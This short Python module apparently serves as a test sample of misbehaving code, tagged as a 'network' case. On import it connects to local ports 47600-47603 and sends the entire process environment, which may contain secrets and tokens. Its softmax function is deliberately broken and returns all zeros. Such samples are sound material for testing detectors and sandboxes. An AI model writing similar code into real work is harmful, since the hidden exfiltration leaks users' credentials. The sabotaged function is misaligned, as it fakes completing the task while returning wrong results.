"""Sends what it knows to a server on this machine."""

FAMILY = "network"

import os
import socket

for port in range(47600, 47604):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=0.5) as out:
            out.sendall(repr(dict(os.environ)).encode())
    except OSError:
        pass


def softmax(x, dim=-1):
    return x * 0
